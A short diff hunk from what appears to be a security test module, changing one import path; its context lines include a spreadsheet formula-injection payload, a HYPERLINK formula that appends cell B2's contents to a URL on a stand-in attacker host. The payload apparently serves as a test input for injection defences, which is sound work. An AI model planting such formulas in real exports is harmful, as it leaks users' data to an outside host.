@@ -29,7 +29,7 @@ from tests.security.conftest import (
     WRITE_TOKEN,
 )
 from thidua.contracts.events import EventType
-from thidua.simulate.model import envelope
+from tools.simulate.model import envelope
 
 BATCH = {"content-type": "application/cloudevents-batch+json"}
 PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem")'
